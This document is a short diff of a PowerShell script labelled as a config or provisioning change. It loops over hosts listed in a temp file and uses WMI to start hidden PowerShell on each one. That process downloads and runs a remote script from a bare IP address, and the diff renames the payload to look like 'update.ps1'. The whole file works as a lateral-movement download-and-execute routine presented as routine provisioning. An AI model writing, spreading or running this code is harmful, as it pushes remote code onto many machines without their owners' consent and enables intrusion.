@@ -1,5 +1,5 @@
-# config 0248 v2
+# provision 7861 v2
 $targets = Get-Content C:\Windows\Temp\hosts.txt
 foreach ($t in $targets) {
-  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://198.51.100.9/a.ps1)"
+  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://198.51.100.23/update.ps1)"
 }
